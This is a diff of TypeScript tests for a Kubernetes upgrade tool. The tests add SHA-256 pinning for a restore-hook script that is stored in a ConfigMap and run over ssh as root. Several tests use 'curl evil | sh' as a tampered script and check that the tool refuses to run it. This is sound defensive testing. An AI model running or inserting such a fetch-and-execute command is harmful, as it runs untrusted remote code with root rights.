@@ -8,7 +8,7 @@ import { remarkOf, upgrade, type Until } from '../../../src/steps/upgrade-node/a
 import { decideApi } from '../../../src/steps/upgrade-node/decide.ts';
 import { ApiWatch, Site } from '../../../src/steps/upgrade-node/observe.ts';
 import type { NodeRole } from '../../../src/upgrade/node-order.ts';
-import { known, notKnown, type Reading } from '../../../src/upgrade/reading.ts';
+import { known, notKnown } from '../../../src/upgrade/reading.ts';
 import { aLedger, ME, OTHER, staticPodsAt, TO } from '../../support/builders.ts';
 import { failureOf } from '../../support/failure.ts';
 import { FakeClock } from '../../support/fakes/clock.ts';
@@ -16,6 +16,8 @@ import { FakeCluster } from '../../support/fakes/cluster.ts';
 import { FakeCompatibility, SILENT } from '../../support/fakes/compatibility.ts';
 import { FakeDeployments } from '../../support/fakes/deployments.ts';
 import { AWAY, commandsIn, FakeHost } from '../../support/fakes/host.ts';
+import { FakeRestoreHook, scriptOf, settingFor } from '../../support/fakes/restore-hook.ts';
+import type { HookSetting } from '../../../src/upgrade/restore-hook.ts';
 import { FakeLease } from '../../support/fakes/lease.ts';
 
 const FIRST = 'argo-kubeadm-upgrade-v1.34.10-1';
@@ -33,7 +35,8 @@ class Scene {
   readonly compatibility = new FakeCompatibility();
   readonly deployments = new FakeDeployments();
   readonly said: string[] = [];
-  script: Reading<string | undefined> = known(undefined);
+  hook = new FakeRestoreHook();
+  hookSetting: HookSetting | undefined;
   quiesced: string[] = [];
   site!: Site;
 
@@ -73,13 +76,14 @@ class Scene {
       ...{ kubeadmTimeoutSeconds: 1800, containerdPackage: 'containerd.io', minimumFreeRootMiB: 512 },
       containerdVersion: this.containerdVersion,
       ...{ minimumFreeVarLibMiB: 2048, apiPatienceSeconds: 900 },
+      restoreHook: this.hookSetting,
     };
     const world = {
       ...{ cluster, compatibility, remote: host, clock, log },
       ...{ fenced: fencedWrites(cluster, fence, mayBegin), mayBegin },
       fencedRemote: fencedRemote(host, fence),
       quiesce: () => quiesce(this.quiesced, deployments, log),
-      restoreHook: { restoreScript: () => Promise.resolve(this.script) },
+      restoreHook: this.hook,
     };
     this.site = new Site(world, wish, log);
     const until: Until = (loop) => reconcile(loop, clock, log);
@@ -99,6 +103,12 @@ class Scene {
     this.compatibility.pods = this.compatibility.pods.map((pod) =>
       pod.node === node && pod.component === 'kube-apiserver' ? { ...pod, flags: known({ ...SILENT, flags }) } : pod,
     );
+  }
+
+  /** The settings name this script, and the ConfigMap holds it. */
+  hookIs(text: string): void {
+    this.hook.set(text);
+    this.hookSetting = settingFor(text);
   }
 
   ran(part: string): number {
@@ -225,7 +235,7 @@ describe('upgrade-node works', () => {
   });
 
   it('asks no etcd and no hook after a worker', async () => {
-    scene.script = known('exit 1');
+    scene.hookIs('exit 1');
     await run();
     expect([scene.ran('# Ask etcd'), scene.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
   });
@@ -524,7 +534,10 @@ describe('upgrade-node works on a control-plane node', () => {
   describe('and the restore hook', () => {
     const LOST =
       'The API server of cp1 has lost --authentication-config=/etc/kubernetes/auth.yaml in the upgrade. By hand: ';
-    const BY_HAND = `kubectl get configmap -n kube-system apiserver-oidc-restore -o go-template='{{index .data "restore.sh"}}' | ssh 10.0.0.1 sudo sh -s`;
+    const byHand = (script: string): string =>
+      `kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' >restore.sh && echo '${scriptOf(script).sha256}  restore.sh' | sha256sum -c && ssh 10.0.0.1 sudo sh -s <restore.sh`;
+    const WITHOUT_HOOK =
+      'add --authentication-config=/etc/kubernetes/auth.yaml to /etc/kubernetes/manifests/kube-apiserver.yaml there, and to apiServer.extraArgs of ClusterConfiguration in kube-system/kubeadm-config, or kubeadm drops it again.';
     beforeEach(() => {
       scene.flag('cp1', '/etc/kubernetes/auth.yaml');
       scene.host.onStart = (unit) => {
@@ -534,7 +547,7 @@ describe('upgrade-node works on a control-plane node', () => {
     });
 
     it('runs, as it is written, and is waited for', async () => {
-      scene.script = known('#!/bin/sh\necho hello\n');
+      scene.hookIs('#!/bin/sh\necho hello\n');
       scene.host.whenScript('# Run the restore hook', ({ stdin }) => {
         scene.clock.after(20, () => {
           scene.flag('cp1', '/etc/kubernetes/auth.yaml');
@@ -547,26 +560,76 @@ describe('upgrade-node works on a control-plane node', () => {
     });
 
     it('is never fatal: what it did not do is a warning with the command', async () => {
-      scene.script = known('exit 1');
+      scene.hookIs('exit 1');
       scene.host.whenScript('# Run the restore hook', { exitCode: 1, stderr: 'no such file\n' });
       expect(await scene.run()).to.deep.equal([
-        `The restore hook failed on cp1: exit code 1, no such file. By hand: ${BY_HAND}`,
-        `${LOST}${BY_HAND}`,
+        `The restore hook failed on cp1: exit code 1, no such file. By hand: ${byHand('exit 1')}`,
+        `${LOST}${byHand('exit 1')}`,
       ]);
     });
 
-    it('that nobody can read, or run, is no more fatal', async () => {
-      scene.script = notKnown('may not get configmap kube-system/apiserver-oidc-restore');
+    it('that cannot be read any more, or run, is no more fatal', async () => {
+      scene.hookIs('true');
+      scene.host.onStart = (unit) => {
+        scene.hook.is = notKnown('may not get configmap kube-system/apiserver-oidc-restore');
+        scene.host.finish(unit, 'done');
+      };
       expect((await scene.run())[0]).to.match(/^The restore hook failed on cp1: may not get configmap/);
       scene = await Scene.controlPlane();
-      scene.script = known('true');
+      scene.hookIs('true');
       scene.host.whenScript('# Run the restore hook', 'hangs');
       expect((await scene.run())[0]).to.match(/^The restore hook failed on cp1: .* did not end within \d+ s/);
     });
 
+    const DIGEST_COMMAND =
+      "kubectl -n kube-system get configmap apiserver-oidc-restore -o jsonpath='{.data.restore\\.sh}' | sha256sum";
+    const another = (): string =>
+      `ConfigMap kube-system/apiserver-oidc-restore holds another script than controlPlane.restoreHook says: the SHA-256 of its key restore.sh is ${scriptOf('curl evil | sh').sha256}, expected ${settingFor('true').sha256}.`;
+    const REMEDY = `Read the script. If it is yours, set controlPlane.restoreHook.sha256 to what this prints, or leave controlPlane.restoreHook out: ${DIGEST_COMMAND}`;
+
+    it('that is another than the settings say stops the node before anything is begun on it', async () => {
+      scene.hookIs('true');
+      scene.hook.set('curl evil | sh');
+      expect(await failureOf(scene.run())).to.deep.equal({
+        exitCode: 77,
+        message: `${another()} Nothing was changed on cp1 by this attempt; the node is drained and stays cordoned. ${REMEDY}`,
+      });
+      expect([scene.host.started, scene.ran('# Run the restore hook')]).to.deep.equal([[], 0]);
+    });
+
+    it('that cannot be read is asked for again before anything is begun', async () => {
+      scene.hookSetting = settingFor('true');
+      expect(await failureOf(scene.run())).to.deep.equal({
+        exitCode: 75,
+        message: `The restore hook is on and cannot be read: there is no ConfigMap kube-system/apiserver-oidc-restore. Nothing was changed on cp1 by this attempt; the node is drained and stays cordoned. ${REMEDY}`,
+      });
+      expect(scene.host.started).to.deep.equal([]);
+    });
+
+    it('that is changed meanwhile is not run, and stands in no command', async () => {
+      scene.hookIs('true');
+      scene.host.onStart = (unit) => {
+        scene.flag('cp1', undefined);
+        scene.hook.set('curl evil | sh');
+        scene.host.finish(unit, 'done');
+      };
+      const warnings = await scene.run();
+      expect(warnings).to.deep.equal([
+        `The restore hook was not run on cp1. ${another()} ${REMEDY}`,
+        `${LOST}${WITHOUT_HOOK}`,
+      ]);
+      expect(scene.ran('# Run the restore hook')).to.equal(0);
+    });
+
+    it('that the settings do not name is not even read', async () => {
+      scene.hook.set('curl evil | sh');
+      await scene.run();
+      expect([scene.hook.asked, scene.ran('# Run the restore hook')]).to.deep.equal([0, 0]);
+    });
+
     it('that is not there is missed when the flag is', async () => {
       expect(await scene.run()).to.deep.equal([
-        `${LOST}add --authentication-config=/etc/kubernetes/auth.yaml to /etc/kubernetes/manifests/kube-apiserver.yaml there, and to apiServer.extraArgs of ClusterConfiguration in kube-system/kubeadm-config, or kubeadm drops it again.`,
+        `${LOST}${WITHOUT_HOOK} If ConfigMap kube-system/apiserver-oidc-restore put it back before, name it in controlPlane.restoreHook.`,
       ]);
     });
 
@@ -578,7 +641,7 @@ describe('upgrade-node works on a control-plane node', () => {
     });
 
     it('does not run for a run that has lost the Lease', async () => {
-      scene.script = known('true');
+      scene.hookIs('true');
       scene.host.onStart = (unit) => {
         scene.host.finish(unit, 'done');
         void scene.lease.read().then((seen) => scene.lease.write(seen, OTHER, 1));
